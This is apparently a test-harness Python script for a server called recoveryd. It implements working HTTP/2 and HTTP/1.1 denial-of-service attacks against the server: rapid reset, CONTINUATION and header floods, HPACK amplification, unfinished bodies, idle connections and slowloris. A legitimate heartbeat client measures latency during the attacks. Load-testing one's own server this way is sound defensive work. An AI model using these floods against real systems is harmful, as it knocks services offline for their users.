#!/usr/bin/env python3
"""An attacker for recoveryd's HTTP edge, and the well-behaved client it is
measured against. Python 3 standard library only: raw HTTP/2 frames with a
minimal HPACK encoder (literals, never Huffman).

    h2attack.py ATTACK --port P [--host 127.0.0.1] [--source 127.0.0.2]
                [--duration S] [--path /api/v1/tasks?limit=1000] [--conns N]

ATTACK is one of: rapid_reset, continuation, huge_headers, hpack_amp,
unfinished_bodies, empty_data, idle_conns, slowloris, slowloris_h1.
It prints one JSON line: what it sent, and whether the server cut it off
(GOAWAY, with its error code and debug text, or the connection closed).

    h2attack.py legit --port P --node NODE --epoch E [--duration S] [--rate R]

heartbeats over one HTTP/1.1 keep-alive connection at R per second and
prints their latency percentiles (ms) and failures as one JSON line.

docs/security.md ("HTTP edge") says what the server does about each attack.
"""
import argparse
import http.client
import json
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
          9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, sid & 0x7FFFFFFF) + payload


def hp_int(value, bits, first=0):
    """HPACK integer with a `bits`-bit prefix; `first` holds the pattern bits."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hp_str(s):
    b = s if isinstance(s, bytes) else s.encode()
    return hp_int(len(b), 7) + b


def hp_literal(name, value, index=False):
    """Literal header field with a literal name: with incremental indexing
    (0x40) or without indexing (0x00)."""
    return (b"\x40" if index else b"\x00") + hp_str(name) + hp_str(value)


def request_block(method, path, authority="localhost", extra=()):
    block = hp_literal(":method", method) + hp_literal(":scheme", "http") + \
        hp_literal(":path", path) + hp_literal(":authority", authority)
    for k, v in extra:
        block += hp_literal(k, v)
    return block


class Conn:
    """One HTTP/2 connection; a reader thread notes GOAWAY, close and windows."""

    tls = False  # set from --tls: TLS with ALPN h2, the certificate not checked

    def __init__(self, host, port, source=None, timeout=10.0):
        self.sock = socket.create_connection((host, port), timeout=timeout,
                                             source_address=(source, 0) if source else None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if Conn.tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            self.sock = ctx.wrap_socket(self.sock, server_hostname=host)
            if self.sock.selected_alpn_protocol() != "h2":
                raise OSError("the server did not agree to h2 over TLS")
        self.goaway = None
        self.closed = False
        self.closed_at = None
        self.conn_window = 65535
        self.stream_windows = {}
        self.initial_window = 65535
        self.frames_received = 0
        self.settings_seen = False
        self.lock = threading.Condition()
        self.reader = threading.Thread(target=self._read, daemon=True)

    def start_h2(self, wait=True):
        """Preface and SETTINGS; waits (2 s at most) for the server's SETTINGS
        and acknowledges them, so no ACK lands inside an attack's header block."""
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        self.reader.start()
        if wait:
            deadline = time.monotonic() + 2.0
            with self.lock:
                while not self.settings_seen and not self.closed and time.monotonic() < deadline:
                    self.lock.wait(0.1)

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self._mark_closed()
            return False

    def _mark_closed(self):
        with self.lock:
            if not self.closed:
                self.closed = True
                self.closed_at = time.monotonic()
            self.lock.notify_all()

    def _recv_exact(self, n):
        buf = b""
        while len(buf) < n:
            try:
                chunk = self.sock.recv(n - len(buf))
            except socket.timeout:
                continue
            except OSError:
                return None
            if not chunk:
                return None
            buf += chunk
        return buf

    def _read(self):
        while True:
            head = self._recv_exact(9)
            if head is None:
                break
            length = head[0] << 16 | head[1] << 8 | head[2]
            ftype, flags = head[3], head[4]
            sid = struct.unpack(">I", head[5:9])[0] & 0x7FFFFFFF
            payload = self._recv_exact(length) if length else b""
            if payload is None:
                break
            self.frames_received += 1
            with self.lock:
                if ftype == GOAWAY and len(payload) >= 8:
                    code = struct.unpack(">I", payload[4:8])[0]
                    self.goaway = {"code": ERRORS.get(code, str(code)),
                                   "debug": payload[8:].decode("utf-8", "replace")}
                elif ftype == WINDOW_UPDATE and len(payload) == 4:
                    inc = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
                    if sid == 0:
                        self.conn_window += inc
                    else:
                        self.stream_windows[sid] = self.stream_windows.get(
                            sid, self.initial_window) + inc
                elif ftype == SETTINGS and not flags & ACK:
                    for i in range(0, len(payload) - 5, 6):
                        ident, val = struct.unpack(">HI", payload[i:i + 6])
                        if ident == 4:
                            self.initial_window = val
                    self.send(frame(SETTINGS, ACK, 0))
                    self.settings_seen = True
                elif ftype == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                self.lock.notify_all()
        self._mark_closed()

    def cut_off(self):
        return self.closed or self.goaway is not None

    def take_window(self, sid, want, timeout):
        """Waits until `want` bytes may be sent on `sid`; how many (0: none in time)."""
        deadline = time.monotonic() + timeout
        with self.lock:
            while True:
                w = min(self.conn_window, self.stream_windows.get(sid, self.initial_window))
                if w > 0 or self.closed:
                    break
                left = deadline - time.monotonic()
                if left <= 0:
                    return 0
                self.lock.wait(left)
            n = max(0, min(want, w))
            self.conn_window -= n
            self.stream_windows[sid] = self.stream_windows.get(sid, self.initial_window) - n
            return n

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def run_rapid_reset(a, c):
    """HEADERS then RST_STREAM at once, in a loop; with --reconnect, a new
    connection each time the server cuts one, until --duration is over."""
    sent, t_end = 0, time.monotonic() + a.duration
    block = request_block("GET", a.path)
    first, reconnects, refused = c, 0, 0
    while time.monotonic() < t_end:
        sid = 1
        while time.monotonic() < t_end and not c.cut_off():
            batch = b""
            for _ in range(50):
                batch += frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
                batch += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
                sid += 2
            if not c.send(batch):
                break
            sent += 50
        if not a.reconnect or time.monotonic() >= t_end:
            break
        time.sleep(0.05)
        try:
            c = Conn(a.host, a.port, a.source, timeout=5)
            c.start_h2()
            reconnects += 1
            if c.closed:
                refused += 1
        except OSError:
            refused += 1
    res = {"streams": sent, "reconnects": reconnects, "refused": refused}
    res.update({"goaway": first.goaway, "cut_off": first.cut_off()})
    return res


def run_continuation(a, c):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end."""
    c.send(frame(HEADERS, 0, 1, request_block("GET", "/health")))
    sent, chunk = 0, hp_literal("x-filler", "a" * 16000)
    t_end = time.monotonic() + a.duration
    while time.monotonic() < t_end and not c.cut_off():
        if not c.send(frame(CONTINUATION, 0, 1, chunk)):
            break
        sent += 1
    return {"continuation_frames": sent}


def run_huge_headers(a, c):
    """One request whose header list is 4 MiB: many large literal fields."""
    field = hp_literal("x-big", "b" * 8000)
    block = request_block("GET", "/health") + field * ((4 << 20) // len(field) + 1)
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    sent = 0
    for i, p in enumerate(pieces):
        last = i == len(pieces) - 1
        f = frame(HEADERS if i == 0 else CONTINUATION,
                  (END_STREAM if i == 0 else 0) | (END_HEADERS if last else 0), 1, p)
        if c.cut_off() or not c.send(f):
            break
        sent += 1
    return {"frames": sent, "block_bytes": len(block)}


def run_hpack_amp(a, c):
    """A 4 KB dynamic table entry, then 16 KB blocks that reference it 16k times."""
    entry = hp_literal("x-amp", "v" * 4000, index=True)
    c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block("GET", "/health") + entry))
    sid, sent, t_end = 3, 0, time.monotonic() + a.duration
    refs = b"\xbe" * (16384 - 200)  # index 62: the newest dynamic entry
    while time.monotonic() < t_end and not c.cut_off():
        # no END_STREAM: the request waits for a body, its headers stay decoded
        if not c.send(frame(HEADERS, END_HEADERS, sid, request_block("POST", "/api/v1/tasks") + refs)):
            break
        sid += 2
        sent += 1
    return {"streams": sent, "decoded_bytes_per_stream": len(refs) * 4037}


def run_unfinished_bodies(a, c):
    """100 streams each sending 7.6 MiB of a body that never ends."""
    per_stream = int(7.6 * (1 << 20))
    streams = [1 + 2 * i for i in range(100)]
    for sid in streams:
        c.send(frame(HEADERS, END_HEADERS, sid, request_block(
            "POST", "/api/v1/tasks", extra=[("content-type", "application/json"),
                                            ("content-length", str(per_stream + 1))])))
    sentb = {sid: 0 for sid in streams}
    chunk = b"x" * 16384
    t_end = time.monotonic() + a.duration
    while time.monotonic() < t_end and not c.cut_off():
        progressed = False
        for sid in streams:
            if sentb[sid] >= per_stream:
                continue
            n = c.take_window(sid, 16384, 0.2)
            if n == 0:
                continue
            if not c.send(frame(DATA, 0, sid, chunk[:n])):
                break
            sentb[sid] += n
            progressed = True
        if not progressed and all(v >= per_stream for v in sentb.values()):
            time.sleep(0.1)
    return {"body_bytes_sent": sum(sentb.values())}


def run_empty_data(a, c):
    c.send(frame(HEADERS, END_HEADERS, 1, request_block(
        "POST", "/api/v1/tasks", extra=[("content-type", "application/json")])))
    sent, batch = 0, frame(DATA, 0, 1) * 1000
    t_end = time.monotonic() + a.duration
    while time.monotonic() < t_end and not c.cut_off():
        if not c.send(batch):
            break
        sent += 1000
    return {"empty_frames": sent}


def run_idle_conns(a):
    """Opens --conns connections that say nothing after the preface, holds them."""
    conns, failed = [], 0
    for _ in range(a.conns):
        try:
            c = Conn(a.host, a.port, a.source, timeout=5)
            c.start_h2(wait=False)
            conns.append(c)
        except OSError:
            failed += 1
    time.sleep(min(a.duration, 2.0))
    t_end = time.monotonic() + a.duration
    while time.monotonic() < t_end and not all(c.closed for c in conns):
        time.sleep(0.2)
    closed = sum(1 for c in conns if c.closed)
    for c in conns:
        c.close()
    return {"opened": len(conns), "connect_failed": failed, "closed_by_server": closed,
            "cut_off": closed + failed > 0, "held": len(conns) - closed}


def run_slowloris(a):
    """HTTP/2: a request whose body trickles in a byte at a time, on --conns connections."""
    conns = []
    for i in range(a.conns):
        try:
            c = Conn(a.host, a.port, a.source)
            c.start_h2()
            c.send(frame(HEADERS, END_HEADERS, 1, request_block(
                "POST", "/api/v1/tasks", extra=[("content-type", "application/json")])))
            conns.append(c)
        except OSError:
            pass
    t_end = time.monotonic() + a.duration
    while time.monotonic() < t_end and not all(c.cut_off() for c in conns):
        for c in conns:
            if not c.cut_off():
                c.send(frame(DATA, 0, 1, b" "))
        time.sleep(1.0)
    cut = sum(1 for c in conns if c.cut_off())
    res = {"connections": len(conns), "cut": cut, "cut_off": cut == len(conns) and cut > 0}
    if conns and conns[0].goaway:
        res["goaway"] = conns[0].goaway
    for c in conns:
        c.close()
    return res


def run_slowloris_h1(a):
    """HTTP/1.1: request headers a byte a second, on --conns connections."""
    head = b"POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 1000
    socks = []
    for _ in range(a.conns):
        try:
            s = socket.create_connection((a.host, a.port), timeout=1,
                                         source_address=(a.source, 0) if a.source else None)
            socks.append([s, 0, False])
        except OSError:
            pass
    t_end = time.monotonic() + a.duration
    while time.monotonic() < t_end and not all(x[2] for x in socks):
        for x in socks:
            if x[2]:
                continue
            try:
                x[0].send(head[x[1]:x[1] + 1])
                x[1] += 1
                x[0].setblocking(False)
                try:
                    if x[0].recv(4096) == b"":
                        x[2] = True
                except BlockingIOError:
                    pass
                finally:
                    x[0].setblocking(True)
            except OSError:
                x[2] = True
        time.sleep(1.0)
    cut = sum(1 for x in socks if x[2])
    for x in socks:
        x[0].close()
    return {"connections": len(socks), "cut": cut, "cut_off": cut == len(socks) and cut > 0}


def run_legit(a):
    """Heartbeats over one kept-alive HTTP/1.1 connection at --rate per second."""
    body = json.dumps({"epoch": a.epoch, "load": {"slots_used": 0}})
    path = "/api/v1/nodes/%s/heartbeat" % a.node
    lat, failures, errors = [], 0, {}
    conn = None
    interval = 1.0 / a.rate
    t_next = time.monotonic()
    t_end = t_next + a.duration
    while time.monotonic() < t_end:
        t0 = time.monotonic()
        try:
            if conn is None:
                conn = http.client.HTTPConnection(a.host, a.port, timeout=a.timeout,
                                                  source_address=(a.source, 0) if a.source else None)
            conn.request("POST", path, body, {"Content-Type": "application/json"})
            r = conn.getresponse()
            r.read()
            if r.status != 200:
                failures += 1
                errors[str(r.status)] = errors.get(str(r.status), 0) + 1
        except (OSError, http.client.HTTPException) as e:
            failures += 1
            errors[type(e).__name__] = errors.get(type(e).__name__, 0) + 1
            conn = None
        lat.append((time.monotonic() - t0) * 1000.0)
        t_next += interval
        pause = t_next - time.monotonic()
        if pause > 0:
            time.sleep(pause)
        else:
            t_next = time.monotonic()
    lat.sort()

    def pct(p):
        return round(lat[min(len(lat) - 1, int(len(lat) * p))], 3) if lat else None
    return {"requests": len(lat), "failures": failures, "errors": errors, "p50_ms": pct(0.50),
            "p90_ms": pct(0.90), "p99_ms": pct(0.99), "max_ms": round(lat[-1], 3) if lat else None}


H2_ATTACKS = {"rapid_reset": run_rapid_reset, "continuation": run_continuation,
              "huge_headers": run_huge_headers, "hpack_amp": run_hpack_amp,
              "unfinished_bodies": run_unfinished_bodies, "empty_data": run_empty_data}
OTHER = {"idle_conns": run_idle_conns, "slowloris": run_slowloris,
         "slowloris_h1": run_slowloris_h1, "legit": run_legit}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("attack", choices=sorted(list(H2_ATTACKS) + list(OTHER)))
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--source", default=None, help="source address to bind (e.g. 127.0.0.2)")
    ap.add_argument("--duration", type=float, default=10.0)
    ap.add_argument("--path", default="/api/v1/tasks?limit=1000")
    ap.add_argument("--conns", type=int, default=1100)
    ap.add_argument("--node", default="legit-1")
    ap.add_argument("--epoch", type=int, default=1)
    ap.add_argument("--rate", type=float, default=200.0)
    ap.add_argument("--timeout", type=float, default=10.0)
    ap.add_argument("--reconnect", action="store_true",
                    help="rapid_reset: connect again after each cut until --duration is over")
    ap.add_argument("--tls", action="store_true", help="HTTP/2 attacks over TLS (ALPN h2)")
    a = ap.parse_args()
    Conn.tls = a.tls
    t0 = time.monotonic()
    if a.attack in OTHER:
        res = OTHER[a.attack](a)
    else:
        c = Conn(a.host, a.port, a.source)
        c.start_h2()
        res = H2_ATTACKS[a.attack](a, c)
        # Give the server a moment to answer the last frames.
        deadline = time.monotonic() + 3.0
        with c.lock:
            while not c.cut_off() and time.monotonic() < deadline:
                c.lock.wait(0.1)
        res.setdefault("cut_off", c.cut_off())
        res.setdefault("goaway", c.goaway)
        res.update({"closed": c.closed,
                    "cut_after_s": round(((c.closed_at or time.monotonic()) - t0), 3)})
        c.close()
    res["attack"] = a.attack
    res["seconds"] = round(time.monotonic() - t0, 3)
    print(json.dumps(res), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
